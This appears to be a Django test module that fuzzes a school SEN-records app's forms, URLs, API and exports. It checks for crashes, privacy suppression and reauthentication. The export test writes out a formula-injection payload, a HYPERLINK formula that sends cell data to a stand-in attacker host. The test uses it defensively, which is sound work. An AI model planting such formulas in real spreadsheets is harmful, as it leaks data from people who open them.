"""The generic guards: no page, form or API call answers 500 to odd input, wherever it is in the URL map.

The URL map (tests/urlmap.py) is read from the URL patterns and filled from a generated trust, so a page or form
added later is walked the day it lands.

Guard A posts generated values to every form the map's pages show, as the person who opened the page: long text,
NUL bytes, extreme dates (0001-01-01, 9999-12-31), huge and negative numbers and ids beyond 2**63, first one kind
of field at a time (so the rest of the form is valid and the odd value reaches the save), then a few Hypothesis
mixes. Each post is rolled back afterwards; after a post that was accepted, the page it leads to, the form and the
home page are opened too, so a value that is stored and then breaks a page is caught. The API's posts (from its
OpenAPI schema) get the same values.

Guard B opens every GET URL in the map with odd query values: every query key the page reads (recorded while
it is opened plainly) and a few common ones, set to NUL, huge ids, `abc`, impossible and extreme dates and very
long strings; and every path parameter replaced by an id beyond 2**63, a NUL byte or a long string.
"""

import contextlib
import datetime as dt
import io
import re
from pathlib import Path

import lxml.html
import pytest
from django.apps import apps
from django.core.management import call_command
from django.db import IntegrityError, models, transaction
from django.test import Client, override_settings
from django.urls import NoReverseMatch, reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests import authorisation_posts, urlmap

HUGE = str(2**63 + 7)
ODD_TEXT = ["a\x00b", "x" * 20_000, "=HYPERLINK(\"http://example.test\") 😀"]
ODD_DATE = ["9999-12-31", "0001-01-01", "2026-02-30\x00"]
ODD_NUMBER = ["-" + HUGE, "1e308"]
ODD_CHOICE = [HUGE, "abc\x00"]
ODD_HIDDEN = [HUGE, "abc\x00"]  # hidden fields and the value of the submit button (delete=<id>)
ODD_QUERY = [HUGE, "abc", "9999-12-31", "-1", "0001-01-01", "x" * 5_000, "2026-02-30"]
COMMON_KEYS = ["delete", "page", "year", "id", "date", "week", "q", "limit", "offset", "next", "status"]

TEXT_TYPES = {"text", "search", "email", "tel", "url", "password", "textarea"}


@pytest.fixture(scope="module")
def generated_trust(django_db_setup, django_db_blocker, tmp_path_factory):
    """One generated trust and its URL map for the guards here, made once and rolled back at the end."""
    media = tmp_path_factory.mktemp("media")
    with django_db_blocker.unblock(), override_settings(MEDIA_ROOT=media), transaction.atomic():
        world = urlmap.build_world(media_root=media)
        clients = urlmap.clients(world)
        yield world, clients, urlmap.url_map(world, clients)
        transaction.set_rollback(True)


@pytest.fixture
def mapped(generated_trust, db):
    return generated_trust


FAILURES: list[str] = []


def no_500(response, what: str) -> None:
    if response.status_code >= 500:
        FAILURES.append(f"{what} answered {response.status_code}")


def summary_links_land(response, what: str) -> None:
    """Every link in a page's error summary takes the person to a field on the page (keyboard and screen reader)."""
    if response.status_code != 200 or b"govuk-error-summary__list" not in response.content:
        return
    page = response.content.decode(errors="replace")
    summary = page.split("govuk-error-summary__list", 1)[1].split("</ul>", 1)[0]
    for anchor in re.findall(r'href="#([^"]+)"', summary):
        if f'id="{anchor}"' not in page:
            FAILURES.append(f"{what}: the error summary links to #{anchor}, which is not on the page")


def assert_none_answered_500() -> None:
    failures, _ = sorted(set(FAILURES)), FAILURES.clear()
    assert not failures, f"{len(failures)} requests answered 500 or sent the person nowhere:\n" + "\n".join(failures)


@contextlib.contextmanager
def rolled_back():
    """Whatever a post changes is undone, so every post meets the same generated trust."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


# ---- Guard B: every GET URL with odd query values and odd path parameters --------------------------------------


def test_no_get_url_answers_500_to_odd_query_values_or_path_parameters(mapped):
    world, clients, entries = mapped
    FAILURES.clear()
    walked = 0
    for entry in entries:
        client = clients[entry.persona]
        keys = sorted(set(entry.query_keys) | set(COMMON_KEYS))
        no_500(client.get(entry.path, dict.fromkeys(keys, "\x00")), f"{entry.persona} GET {entry.path} with NUL in every query key")
        # Two requests give each key two of the odd values, the keys taking different values in each.
        for shift in (0, 2):
            query = {key: ODD_QUERY[(i + shift) % len(ODD_QUERY)] for i, key in enumerate(keys)}
            no_500(client.get(entry.path, query), f"{entry.persona} GET {entry.path}?{query!r:.300}")
        walked += 3
    for route in {e.route for e in entries}:
        entry = next(e for e in entries if e.route == route)
        for param, good in entry.kwargs.items():
            odd_values = [HUGE, str(2**31)] if isinstance(good, int) else ["\x00", "x" * 300]
            for odd in odd_values:
                try:
                    path = reverse(route.name, kwargs=entry.kwargs | {param: int(odd) if isinstance(good, int) else odd})
                except NoReverseMatch:  # the route cannot carry the value (a slug with a NUL): nothing to open
                    continue
                no_500(clients[entry.persona].get(path), f"{entry.persona} GET {path} ({param} = {odd[:20]!r})")
                walked += 1
    assert walked > 400
    assert_none_answered_500()


# ---- Guard A: every form and every API post with generated values ------------------------------------------


def fields_of(form):
    """(name, kind, baseline, options) for every field a person can send, baseline being what a browser sends."""
    found, seen = [], set()
    for element in form.inputs:
        name = element.get("name")
        if not name or name.startswith("csrf") or name in seen and element.tag != "input":
            continue
        if element.tag == "textarea":
            found.append((name, "text", element.value or "", []))
        elif element.tag == "select":
            options = [o.get("value", o.text or "") for o in element.findall(".//option")]
            value = element.value
            baseline = list(value) if element.multiple else ([value] if value is not None else [])
            found.append((name, "choice", baseline, options))
        else:
            kind = (element.get("type") or "text").lower()
            if kind in ("submit", "button", "image", "reset", "file"):
                continue
            if kind in ("checkbox", "radio"):
                if name in seen:
                    existing = next(f for f in found if f[0] == name)
                    existing[3].append(element.get("value", "on"))
                    if element.checked:
                        existing[2].append(element.get("value", "on"))
                    continue
                found.append((name, "choice", [element.get("value", "on")] if element.checked else [], [element.get("value", "on")]))
            elif kind == "date":
                found.append((name, "date", element.value or "", []))
            elif kind == "number":
                found.append((name, "number", element.value or "", []))
            elif kind == "hidden":
                found.append((name, "hidden", element.value or "", []))
            else:
                found.append((name, "text" if kind in TEXT_TYPES else kind, element.value or "", []))
        seen.add(name)
    return found


def post_data(fields, overrides: dict) -> dict:
    data = {}
    for name, _kind, baseline, _ in fields:
        value = overrides.get(name, baseline)
        if isinstance(value, list):
            if value:
                data[name] = value
        else:
            data[name] = value
    return data


def submit_button(form) -> dict:
    for button in form.xpath(".//button[@name] | .//input[@type='submit'][@name]"):
        return {button.get("name"): button.get("value", "")}
    return {}


def forms_in_map(entries, clients):
    """Every post form the map's pages show (once each, by where it posts and what it sends), with who opened it."""
    found, seen = [], set()
    for entry in entries:
        if entry.status != 200 or not entry.content_type.startswith("text/html"):
            continue
        document = lxml.html.fromstring(entry.content, base_url="http://testserver" + entry.path)
        for form in document.forms:
            if (form.method or "GET").upper() != "POST":
                continue
            action = form.get("action") or entry.path
            action = action.removeprefix("http://testserver")
            if action.startswith("/accounts/"):  # sign-out and allauth's own forms are not ours
                continue
            # The submit button's name and value are sent like a hidden field's (delete=<id>), and fuzzed as one.
            fields = fields_of(form) + [(name, "hidden", value, []) for name, value in submit_button(form).items()]
            key = (action.split("?")[0], tuple(sorted(f[0] for f in fields)))
            if key in seen:
                continue
            seen.add(key)
            found.append((entry, action, fields, {}))
    return found


def odd_value(value: str, baseline):
    return [value] if isinstance(baseline, list) else value


def field_strategy(kind, baseline, options):
    odd = {"text": ODD_TEXT, "date": ODD_DATE, "number": ODD_NUMBER, "choice": ODD_CHOICE, "hidden": ODD_HIDDEN}.get(kind, ODD_TEXT)
    plain = st.just(baseline)
    if isinstance(baseline, list):
        valid = st.lists(st.sampled_from(options), max_size=4, unique=True) if options else st.just([])
        return st.one_of(plain, valid, st.lists(st.sampled_from(odd + options), min_size=1, max_size=3))
    return st.one_of(plain, st.sampled_from(odd), st.text(max_size=40))


def post_and_follow(client, action, data, what, world):
    with rolled_back():
        response = client.post(action, data)
        no_500(response, what)
        summary_links_land(response, what)
        if response.status_code == 302:
            # Accepted: the pages that show what was stored must still open.
            for path in {response["Location"], "/", f"/schools/{world.school.urn}/overview/"}:
                if path.startswith("/") and not path.startswith("/accounts/"):
                    no_500(client.get(path), f"{what}, then GET {path}")
    return response


def fuzz_form(client, action, fields, button, where, world) -> int:
    """A few Hypothesis mixes: each field its shown value, a valid choice, an odd value or generated text."""
    strategies = {name: field_strategy(kind, baseline, options) for name, kind, baseline, options in fields}

    @settings(max_examples=2, deadline=None, database=None, derandomize=True, suppress_health_check=list(HealthCheck))
    @given(st.fixed_dictionaries(strategies))
    def generated(overrides):
        post_and_follow(client, action, post_data(fields, overrides) | button, f"{where} with {overrides!r:.300}", world)

    generated()
    return 2


def test_no_form_answers_500_to_generated_values(mapped):
    world, clients, entries = mapped
    forms = forms_in_map(entries, clients)
    assert len(forms) > 30, "the URL map's pages should show dozens of forms"
    posted = 0
    for entry, action, fields, button in forms:
        client = clients[entry.persona]
        where = f"{entry.persona} POST {action} (form on {entry.path})"
        post_and_follow(client, action, post_data(fields, button), f"{where} unchanged", world)
        odd_by_kind = {"text": ODD_TEXT, "date": ODD_DATE, "number": ODD_NUMBER, "choice": ODD_CHOICE, "hidden": ODD_HIDDEN}
        for kind, odd_values in odd_by_kind.items():
            names = [f for f in fields if f[1] == kind]
            if not names:
                continue
            for value in odd_values:
                overrides = {name: odd_value(value, baseline) for name, _, baseline, _ in names}
                post_and_follow(client, action, post_data(fields, overrides) | button,
                                f"{where} with every {kind} field = {value[:20]!r}", world)  # fmt: skip
                posted += 1

        posted += fuzz_form(client, action, fields, button, where, world)
    assert posted > 300
    assert_none_answered_500()


def fuzz_api(client, url, baseline) -> None:
    fields = {name: st.one_of(st.just(value), st.sampled_from(ODD_TEXT + ODD_NUMBER), st.integers(), st.none(), st.text(max_size=30))
              for name, value in baseline.items()}  # fmt: skip

    @settings(max_examples=25, deadline=None, database=None, derandomize=True, suppress_health_check=list(HealthCheck))
    @given(st.fixed_dictionaries(fields))
    def generated(payload):
        with rolled_back():
            no_500(client.post(url, payload, content_type="application/json"), f"POST {url} {payload!r:.200}")

    generated()


def test_no_api_post_answers_500_to_generated_values(mapped):
    world, clients, entries = mapped
    client = clients["senco"]
    schema = client.get("/api/v1/openapi.json").json()
    posted = 0
    for path, operations in schema["paths"].items():
        if "post" not in operations:
            continue
        url = path.replace("{urn}", world.school.urn)
        body = operations["post"]["requestBody"]["content"]["application/json"]["schema"]
        if "$ref" in body:
            body = schema["components"]["schemas"][body["$ref"].rsplit("/", 1)[1]]
        pupil_upn = next(e.kwargs["upn"] for e in entries if "upn" in e.kwargs)
        baseline = {name: pupil_upn if name == "upn" else "Finds group work hard." for name in body["properties"]}
        for name in baseline:
            for value in ODD_TEXT + [HUGE, None, 12]:
                with rolled_back():
                    no_500(client.post(url, baseline | {name: value}, content_type="application/json"), f"POST {url} {name}={value!r:.30}")
        fuzz_api(client, url, baseline)
        posted += 1
    assert posted >= 1
    assert_none_answered_500()


# ---- A bad date already stored -------------------------------------------------------------------------------


def store_everywhere(day) -> int:
    """Put `day` straight into every date column of every record of ours, as a date stored before the window
    existed (or by a bulk load) would be; one row only where a unique constraint allows no more."""
    changed = 0
    for model in apps.get_models():
        if not model.__module__.startswith("sencohub."):
            continue
        names = [f.name for f in model._meta.concrete_fields
                 if isinstance(f, models.DateField) and not isinstance(f, models.DateTimeField)]  # fmt: skip
        first = model.objects.order_by("pk").first()
        # All of a record's dates at once (so "ends after it starts" holds), on every row, else on one row.
        for rows in (model.objects.all(), model.objects.filter(pk=getattr(first, "pk", None))):
            try:
                with transaction.atomic():
                    changed += rows.update(**dict.fromkeys(names, day)) if names else 0
                break
            except IntegrityError:
                continue
    return changed


def test_a_bad_date_already_stored_breaks_no_page_export_digest_or_calculator(mapped):
    world, clients, entries = mapped
    FAILURES.clear()
    with rolled_back():
        assert store_everywhere(dt.date(9999, 12, 31)) > 100
        for entry in entries:
            no_500(clients[entry.persona].get(entry.path), f"{entry.persona} GET {entry.path} with 9999-12-31 stored")
        for command in (["send-digests"], ["export", "census", "--school", world.school.urn]):
            try:
                call_command(*command, stdout=io.StringIO(), stderr=io.StringIO())
            except Exception as error:  # noqa: BLE001 - any exception is the failure being looked for
                FAILURES.append(f"sencohub {' '.join(command)} with 9999-12-31 stored raised {error!r}")
    assert_none_answered_500()


# ---- Exports never carry a live formula ---------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://attacker.test/?"&A2,"Open")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
STARTS = ["+1+1 ", "-1+1 ", "@SUM(1+1) ", "\t=1+1 ", "\r=1+1 "]
# Text fields that are codes, secrets or file names checked on the way in, never a person's free text.
NOT_FREE_TEXT = {"password", "email", "prefix", "digest", "code", "urn", "upn", "year_group", "progress_stage",
                 "task_id", "days", "state", "kind", "filename"}  # fmt: skip
EXPORTS = {"register_export", "census_export", "compliance_export", "compliance_all_export", "workforce_export",
           "workforce_aggregate", "provision_map_export"}  # fmt: skip
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def arm_every_free_text_field(payload) -> int:
    """Start every free-text field of every record of ours with a formula, as if typed by a person (a surname, a
    class, a provision, an adviser's name typed by an LA officer, a training topic): `payload(i)` for the i-th field."""
    from django.db.models import F, Value
    from django.db.models.functions import Concat, Left

    armed = 0
    for model in apps.get_models():
        if not model.__module__.startswith("sencohub."):
            continue
        for field in model._meta.concrete_fields:
            if (not isinstance(field, (models.CharField, models.TextField)) or field.choices or field.primary_key
                    or field.name in NOT_FREE_TEXT):  # fmt: skip
                continue
            value = Concat(Value(payload(armed)), F(field.name), output_field=models.TextField())
            try:
                with transaction.atomic():
                    model.objects.update(**{field.name: Left(value, field.max_length) if field.max_length else value})
            except IntegrityError:  # a unique name cut short to its length: the others still carry the formula
                continue
            armed += 1
    return armed


def spreadsheet_cells(content_type: str, body: bytes) -> list:
    if content_type.startswith("text/csv"):
        import csv

        return [cell for row in csv.reader(io.StringIO(body.decode(), newline="")) for cell in row]
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(body))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [f"{c.parent.title}!{c.coordinate}={c.value!r}" for c in cells if c.data_type == "f"]
    assert not formulas, f"live formulas in an Excel download: {formulas[:5]}"
    return [c.value for c in cells]


def test_no_export_carries_a_live_formula_from_any_free_text_field(mapped, tmp_path):
    world, clients, entries = mapped
    exports = [e for e in entries if e.content_type.startswith(("text/csv", XLSX))]
    assert EXPORTS <= {e.route.name.split(":")[-1] for e in exports}, "an export the test expects was not found in the map"
    commands = [["export", "census", "--school", world.school.urn]] + [
        ["export", "provision-map", "--school", world.school.urn, "--format", fmt, "--out", str(tmp_path / f"map.{fmt}")]
        for fmt in ("csv", "xlsx")
    ]
    seen, problems = set(), []

    def check(what, content_type, body):
        for cell in spreadsheet_cells(content_type, body):
            if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
                problems.append(f"{what}: {cell[:60]!r}")
            if isinstance(cell, str) and cell.startswith("'") and len(cell) > 1:
                seen.add(cell[1])

    for payload in (lambda i: HYPERLINK + " ", lambda i: STARTS[i % len(STARTS)]):
        with rolled_back():
            assert arm_every_free_text_field(payload) > 60
            for entry in exports:
                response = clients[entry.persona].get(entry.path)
                assert response.status_code == 200, entry.path
                check(f"{entry.persona} GET {entry.path}", response["Content-Type"], response.content)
            for command in commands:
                out = io.StringIO()
                call_command(*command, stdout=out, stderr=io.StringIO())
                if "--out" in command:
                    check(" ".join(command), "text/csv" if command[-1].endswith("csv") else XLSX, Path(command[-1]).read_bytes())
                else:
                    check(" ".join(command), "text/csv", out.getvalue().encode())
    assert not problems, f"{len(problems)} cells would run as formulas:\n" + "\n".join(problems[:40])
    assert set(FORMULA_STARTS) <= seen, f"not every formula start reached an export: {seen}"


# ---- Governors see no count from 1 to 4 -----------------------------------------------------------------------

MONTHS = "January|February|March|April|May|June|July|August|September|October|November|December"
# What reads as a number but is no count: dates, times, hours and other decimals, percentages.
NOT_COUNTS = re.compile(rf"\d{{1,2}} (?:{MONTHS}) \d{{4}}|\d{{4}}-\d{{2}}-\d{{2}}|\d{{1,2}}:\d{{2}}|\d+\.\d+|\d+%")
SMALL_COUNT = re.compile(r"(?<![\w.£/-])[1-4](?![\w.%/:])")


def readable_text(content_type: str, body: bytes) -> str:
    """What a person reads in a response: a page's main content, a PDF's or Word file's text, a table's cells."""
    if content_type.startswith("text/html"):
        page = lxml.html.fromstring(body)
        for hidden in page.xpath("//script|//style"):
            hidden.drop_tree()
        main = page.find(".//main")
        return (main if main is not None else page).text_content()
    if content_type.startswith("application/pdf"):
        from pypdf import PdfReader

        return "\n".join(p.extract_text() for p in PdfReader(io.BytesIO(body)).pages)
    if "wordprocessingml" in content_type:
        from docx import Document

        document = Document(io.BytesIO(body))
        cells = [c.text for t in document.tables for row in t.rows for c in row.cells]
        return "\n".join([p.text for p in document.paragraphs] + cells)
    if content_type.startswith(("text/csv", XLSX)):
        return "\n".join(str(c) for c in spreadsheet_cells(content_type, body) if c is not None)
    return ""


def small_counts(text: str) -> list[str]:
    text = NOT_COUNTS.sub(" ", " ".join(text.split()))
    return [text[max(0, m.start() - 50) : m.end() + 30] for m in SMALL_COUNT.finditer(text)]


def test_a_governor_sees_no_count_from_1_to_4_on_anything_a_governor_can_open(mapped):
    from decimal import Decimal

    from django.test import Client
    from django.utils import timezone

    from sencohub.statutory.school_year import school_year_start
    from sencohub.workforce.models import Appointment, TrainingAttendance, TrainingSession, WeekLog
    from sencohub.workforce.timelog import monday
    from tests.factories import MembershipFactory, PupilFactory, SchoolFactory, UserFactory, put_on_register

    world, clients, entries = mapped
    problems, opened = [], set()
    with rolled_back():
        # A small school: 3 pupils with one need, 2 without; 2 weeks of the SENCo's time; 1 session, 2 staff there.
        small = SchoolFactory(name="Wren Primary", trust=world.school.trust, local_authority=world.school.local_authority)
        for _ in range(3):
            put_on_register(PupilFactory(school=small), "K", "ASD")
        PupilFactory.create_batch(2, school=small)
        senco, teacher = (MembershipFactory(school=small, role=role).user for role in ("senco", "teacher"))
        year = school_year_start(timezone.localdate())
        appointment = Appointment.objects.create(school=small, name="Wren Senco", user=senco, starts_on=dt.date(2020, 9, 1),
                                                 protected_hours=Decimal(4))  # fmt: skip
        for week in (1, 2):
            WeekLog.objects.create(appointment=appointment, week_of=monday(year) + dt.timedelta(weeks=week), administration=Decimal(3))
        session = TrainingSession.objects.create(school=small, topic="Autism", area_of_need="communication and interaction",
                                                 held_on=year)  # fmt: skip
        for person in (senco, teacher):
            TrainingAttendance.objects.create(session=session, user=person, confidence_before=2, confidence_after=4)
        governor = UserFactory(email="governor@guard.test")
        for school in (small, world.school):
            MembershipFactory(user=governor, school=school, role="governor")
        client = Client(raise_request_exception=False)
        client.force_login(governor)

        paths = set()
        for entry in entries:
            for urn in (small.urn, world.school.urn) if "urn" in entry.kwargs else (None,):
                paths.add(reverse(entry.route.name, kwargs=entry.kwargs | {"urn": urn}) if urn else entry.path)
        for path in sorted(paths):
            response = client.get(path)
            if response.status_code != 200:
                continue
            opened.add(path)
            for found in small_counts(readable_text(response["Content-Type"], response.content)):
                problems.append(f"{path}: ...{found}...")
    for urn in (small.urn, world.school.urn):
        expected = {f"/schools/{urn}/figures/", f"/schools/{urn}/senco/governors/", f"/schools/{urn}/senco/governors.pdf",
                    f"/schools/{urn}/senco/governors.docx"}  # fmt: skip
        assert expected <= opened, f"the governor could not open {expected - opened}"
    assert not problems, f"{len(problems)} counts from 1 to 4 shown to a governor:\n" + "\n".join(problems[:40])


def shown_table(page: str, caption: str) -> dict:
    """A rendered table's first two columns (label: the count as shown, an int or "c")."""
    table = next(t for t in lxml.html.fromstring(page).xpath("//table") if caption in t.findtext("caption", ""))
    rows = {}
    for row in table.xpath("./tbody/tr"):
        cells = [c.text_content().strip() for c in row.xpath("./th|./td")]
        rows[cells[0]] = cells[1] if cells[1] == "c" else int(cells[1])
    return rows


def test_generated_cohorts_show_a_governor_no_small_count_and_none_that_subtraction_gives_away(mapped):
    from tests.factories import MembershipFactory, PupilFactory, SchoolFactory, UserFactory, put_on_register

    world, clients, entries = mapped
    from django.test import Client

    needs = ["ASD", "SLCN", "SEMH", "MLD", "SPLD", "HI", "PD"]

    @settings(max_examples=6, deadline=None, database=None, derandomize=True, suppress_health_check=list(HealthCheck))
    @given(st.lists(st.tuples(st.sampled_from(["K", "E"]), st.sampled_from(needs)), max_size=24), st.integers(0, 12))
    def generated(on_register, without_sen):
        with rolled_back():
            school = SchoolFactory(name="Rowan Primary", trust=world.school.trust, local_authority=world.school.local_authority)
            for provision, need in on_register:
                put_on_register(PupilFactory(school=school), provision, need)
            PupilFactory.create_batch(without_sen, school=school)
            governor = UserFactory()
            MembershipFactory(user=governor, school=school, role="governor")
            client = Client()
            client.force_login(governor)
            pages = {path: client.get(path) for path in (f"/schools/{school.urn}/figures/", f"/schools/{school.urn}/senco/governors/",
                                                         f"/schools/{school.urn}/senco/governors.docx")}  # fmt: skip
            for path, response in pages.items():
                assert response.status_code == 200, path
                found = small_counts(readable_text(response["Content-Type"], response.content))
                assert not found, f"{path} with {on_register}, {without_sen} without SEN: {found}"
            page = pages[f"/schools/{school.urn}/figures/"].content.decode()
            provision, areas = shown_table(page, "SEN provision"), shown_table(page, "Area of primary need")
            sen = provision.pop("SEN (EHC plan or SEN support)")
            provision.pop("All pupils")
            for group in (provision, areas):
                hidden = [label for label, n in group.items() if n == "c"]
                if sen == "c" or not hidden:
                    continue
                rest = sen - sum(n for n in group.values() if n != "c")  # what subtracting from the shown total gives
                assert len(hidden) >= 2 and rest >= 5 and rest > len(hidden), (on_register, without_sen, group, sen)

    generated()
# ---- Confirm it's you: every bulk download of pupil data asks first ----------------------------------------------

# Downloads outside a single pupil's pages that carry no pupil's data, each with the reason. Every other download
# in the map (the register, census, statutory deadlines, provision map, print bundles, and any added later) is a
# bulk export of pupil data and must ask someone who has not confirmed it's them in the last 15 minutes.
NOT_PUPIL_DATA = {
    "workforce_export": "the SENCos of the schools: staff, not pupils",
    "workforce_aggregate": "anonymised counts, under 5 suppressed",
    "workforce_governors_download": "the governors' summary: figures only",
    "document_template_download": "a school's Word template, with no pupil in it",
    "workforce_certificate": "a SENCo's qualification certificate",
    "calendar_feed": "dates for one person's own calendar, reached by its secret address, not a session",
    "healthz": "the health check",
}


def test_every_bulk_download_of_pupil_data_asks_to_confirm_it_is_you_first(mapped):
    world, clients, entries = mapped
    downloads = [
        e for e in entries
        if e.status == 200 and not e.content_type.startswith("text/html") and "<str:upn>" not in e.route.pattern
        and not e.route.name.startswith("api:")
    ]  # fmt: skip
    assert {e.route.name for e in downloads} >= {"register_export", "census_export", "provision_map_export"}
    unconfirmed = {}
    asked, problems = 0, []
    for entry in downloads:
        if entry.route.name in NOT_PUPIL_DATA:
            continue
        if entry.persona not in unconfirmed:
            unconfirmed[entry.persona] = Client()
            unconfirmed[entry.persona].force_login(world.people[entry.persona])
        response = unconfirmed[entry.persona].get(entry.path)
        if response.status_code != 302 or not response["Location"].startswith("/accounts/reauthenticate/?next="):
            problems.append(f"{entry.persona} GET {entry.path} answered {response.status_code} without asking")
        asked += 1
    assert not problems, "\n".join(problems)
    assert asked >= 8


# ---- Authorisation of posts: every POST URL refuses every outsider -------------------------------------------


def test_every_post_url_refuses_every_outsider_and_changes_nothing(mapped):
    world, clients, entries = mapped
    authorisation_posts.walk_posts(world, clients, entries)


def test_no_form_in_the_map_says_optional_twice_or_draws_a_blank_choice_as_a_radio(mapped):
    """What a users' run found on the SENCo pages, looked for on every page of the map (as its opener and as the
    headteacher, who sees forms others do not)."""
    world, clients, entries = mapped
    problems, looked = [], 0
    for entry in entries:
        if entry.status != 200 or not entry.content_type.startswith("text/html"):
            continue
        pages = [(entry.persona, entry.content)]
        if entry.persona != "head" and "urn" in entry.kwargs:
            response = clients["head"].get(entry.path)
            if response.status_code == 200 and response["Content-Type"].startswith("text/html"):
                pages.append(("head", response.content))
        for persona, content in pages:
            document = lxml.html.fromstring(content)
            looked += 1
            for label in document.xpath("//label|//legend"):
                text = " ".join(label.text_content().split())
                if "(optional) (optional)" in text:
                    problems.append(f"{persona} {entry.path}: a label reads {text!r}")
            for radio in document.xpath("//input[@type='radio']"):
                text = " ".join("".join(t.text_content() for t in document.xpath(f"//label[@for='{radio.get('id')}']")).split())
                if text.strip("-") == "":
                    problems.append(f"{persona} {entry.path}: a radio of {radio.get('name')!r} is labelled {text!r}")
    assert looked > 50
    assert not problems, "\n".join(sorted(set(problems)))


def test_every_form_in_the_map_sent_empty_names_its_fields_and_titles_its_page_error(mapped):
    """Each form the map's pages show, sent with every field a person fills left empty (hidden fields and the
    button kept): no "This field is required.", and a page sent back with an error says "Error: " first in its
    title, without the page having to ask for it."""
    world, clients, entries = mapped
    problems, refused = [], 0
    for entry, action, fields, button in forms_in_map(entries, clients):
        data = {name: value for name, kind, value, _ in fields if kind == "hidden" and not isinstance(value, list)}
        with rolled_back():
            response = clients[entry.persona].post(action, data | button)
        if response.status_code not in (200, 400) or not response["Content-Type"].startswith("text/html"):
            continue
        page = response.content.decode(errors="replace")
        if "This field is required." in page:
            problems.append(f"{entry.persona} POST {action}: says 'This field is required.'")
        if "govuk-error-message" in page or "govuk-error-summary__list" in page:
            refused += 1
            title = lxml.html.fromstring(response.content).findtext(".//title") or ""
            if not title.startswith("Error: "):
                problems.append(f"{entry.persona} POST {action}: refused, but its title is {title!r}")
    assert refused > 20, "sent empty, dozens of the map's forms should be refused"
    assert not problems, "\n".join(sorted(set(problems)))
